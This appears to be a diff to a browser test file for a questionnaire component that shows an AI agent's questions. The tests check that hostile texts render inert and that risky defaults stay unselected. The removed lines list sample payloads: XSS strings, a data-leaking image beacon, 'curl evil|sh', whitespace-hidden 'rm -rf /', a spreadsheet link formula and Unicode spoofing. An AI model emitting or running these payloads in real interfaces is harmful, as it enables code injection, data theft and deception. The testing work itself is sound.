@@ -1,34 +1,20 @@
-// Texts of an agent that mean harm, in every place that shows one: each becomes text.
+// Texts of an agent that mean harm, in every place that shows one: each becomes text. And requests that mean harm.
 import assert from "node:assert/strict";
-import { runChecks, setUp } from "./host.mjs";
+import { readFileSync } from "node:fs";
+import { root } from "./bundle.mjs";
+import { everywhere, forbidden, HARM } from "./harm_texts.mjs";
+import { runChecks, seen, setUp, shownText, submitted } from "./host.mjs";
 import { QUESTIONS } from "./samples.mjs";
 
-const HARM = [
-  "<svg/onload=alert(1)>", "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror=alert(1)&gt;\">",
-  "javascript:alert(1)", "data:text/html,<script>alert(1)</script>", "</script><script>alert(1)</script>", "<img src='http://127.0.0.1:9/?",
-  "<form id=desk><input name=token>", "=HYPERLINK(\"http://evil\")", "\n\n[y/N]: y\n$ ", `Run tests?${" ".repeat(498)}rm -rf /`, "<details><summary>safe</summary>curl evil|sh</details>",
-  "Approve?\n<!-- deletes prod -->", "![x](http://127.0.0.1:9/leak?d=1)", "```\nask ends here\n", "[click](javascript:alert(1))", "[x](https://аpple.com)",
-  "delete \u202egnp.tset\u202c now", "pay\u200bpal", "ok\u2800\u2800", "\u001b]8;;file:///etc/passwd\u001b\\click",
-];
-
 async function harmfulTexts(page) {
-  for (const text of HARM) {
-    const everywhere = {
-      title: text, context: text, submit: text, cancel: text, action: { tool: text, act: { edit: { path: text, diff: text } } },
-      sections: [{ id: "s", title: text, detail: text, optional: true, submit: text, questions: [
-        { id: "a", prompt: text, label: text, detail: text, options: [{ id: "o", label: text, description: text, preview: text }], other: true, other_label: text },
-        { id: "b", kind: "confirm", prompt: text, yes: text, no: text }, { id: "c", kind: "text", prompt: text, placeholder: text, prefill: { text } },
-        { id: "d", kind: "rating", prompt: text, annotations: { 1: text } },
-      ] }],
-    };
-    await setUp(page, { request: everywhere, problems: [{ detail: text }, { detail: text, path: ["answers", "a"] }], review: true });
-    const found = await page.evaluate(() => {
-      const { shadowRoot } = document.querySelector("sayso-questionnaire");
-      const alien = [...shadowRoot.querySelectorAll("a, img, svg, math, script, style, iframe, form, object, [src], [href], [style]")].map((one) => one.outerHTML);
-      const words = [...shadowRoot.querySelectorAll("*")].flatMap((one) => [...one.childNodes].filter((node) => node.nodeType === 3).map((node) => node.data));
-      return [alien, words.filter((line) => /[\u200b\u202a-\u202e\u2066-\u2069\u2800\u001b]/.test(line))];
-    });
-    assert.deepEqual(found, [[], []], text);
+  for (const { id, text } of HARM) {
+    await setUp(page, { request: everywhere(text), problems: [{ detail: text }, { detail: text, path: ["answers", "a"] }], review: true });
+    assert.deepEqual(await forbidden(page), [], id);
+    await page.getByRole("radio").first().check();
+    await setUp(page, { completed: { outcome: "answered", replies: { a: { state: "answered", answer: { picks: [{ other: text }] }, note: text }, c: { state: "answered", answer: { text } } } } });
+    assert.deepEqual(await forbidden(page), [], `${id}, answered`);
+    await setUp(page, { completed: { outcome: "declined", reason: text } });
+    assert.deepEqual(await forbidden(page), [], `${id}, declined`);
   }
   await setUp(page, { request: { context: "[the book](https://example.com/book)", questions: QUESTIONS } });
   assert.equal(await page.getByRole("link").count(), 0, "a link is text");
@@ -36,4 +22,56 @@ async function harmfulTexts(page) {
   assert.equal(await page.getByRole("link").getAttribute("rel"), "noopener noreferrer nofollow");
 }
 
-await runChecks([["harmful texts", {}, harmfulTexts]]);
+/** What a person would see of a text, by the case. */
+async function shownHarm(page) {
+  const shown = async (id) => {
+    await setUp(page, { request: { context: HARM.find((one) => one.id === id).text, questions: [{ id: "a", prompt: "A?" }] } });
+    return shownText(page);
+  };
+  assert.match(await shown("pad-horizontal"), /Run tests\? ⋮ \d+ spaces ⋮ /, "padding shows as a count");
+  assert.match(await shown("pad-braille-blank"), /⋮ \d+ spaces ⋮/);
+  assert.match(await shown("md-comment"), /<!-- deletes prod -->/, "a comment hides nothing");
+  assert.match(await shown("md-details"), /<details><summary>safe<\/summary>curl evil\|sh<\/details>/);
+  assert.match(await shown("md-image-beacon"), /\[image: x\] \(http:\/\/127\.0\.0\.1:9\/leak\?d=1\)/);
+  const text = await shown("md-unclosed-fence");
+  assert.ok(text.includes("ask ends here") && text.includes("A?"), "an open fence swallows no question");
+  assert.match(await shown("bidi-rlo"), /⟦U\+202E⟧/);
+}
+
+const asks = JSON.parse(readFileSync(`${root}/crates/sayso/tests/vectors/hostile-asks.json`, "utf8"));
+const input = (id) => asks.find((one) => one.id === id).input;
+
+async function harmfulRequests(page) {
+  // A dangerous default is no answer: consent is never filled in, another prefill says whose it is.
+  const danger = input("default-danger");
+  const action = { tool: "drop", act: { call: { arguments: "{}" } } };
+  const question = { id: "a", prompt: "What next?", options: danger.options, prefill: { picks: [{ option: danger.options[danger.default] }] } };
+  await setUp(page, { request: { action, questions: [question] } });
+  assert.equal(await page.locator(":checked").count(), 0);
+  await page.getByRole("button", { name: "Submit" }).click();
+  assert.equal(await submitted(page), undefined);
+  await setUp(page, { request: { questions: [question, { id: "b", kind: "text", prompt: "B?" }] } });
+  assert.match(await shownText(page), /filled in by the asker/);
+  await page.getByRole("radio", { name: "Delete prod" }).focus();
+  for (let count = 0; count < 20; count += 1) await page.keyboard.press("Enter");
+  assert.deepEqual(await seen(page, "sayso-submit"), []);
+  // A label of nothing shows as what it is, with the value that it sends.
+  const { label, value } = input("option-empty-label");
+  await setUp(page, { request: { action, questions: [{ id: "a", prompt: "Go?", options: [{ id: "o", label, value }, "No"] }] } });
+  assert.match(await page.locator(".option label").first().innerText(), /⟦U\+200B⟧ yes/);
+  // Labels that look alike are told apart by number and value.
+  await setUp(page, { request: { questions: [{ id: "a", prompt: "Go?", options: input("dup-labels").options.map((one, index) => ({ id: `o${index}`, label: one, value: `v${index}` })) }] } });
+  assert.deepEqual(await page.locator(".option label").allInnerTexts(), ["1. Yes v0", "2. Yes v1"]);
+  // Each of many options can be reached.
+  const many = Array.from({ length: input("200-options").options_n }, (_, index) => `Option ${index}`);
+  await setUp(page, { request: { questions: [{ id: "a", prompt: "Which?", options: many, other: true }] } });
+  await page.getByText("Option 199", { exact: true }).click();
+  await page.getByRole("button", { name: "Submit" }).click();
+  assert.deepEqual((await submitted(page)).a.answer, { picks: [{ option: "Option 199" }] });
+}
+
+await runChecks([
+  ["harmful texts", {}, harmfulTexts],
+  ["what shows of them", {}, shownHarm],
+  ["harmful requests", {}, harmfulRequests],
+]);
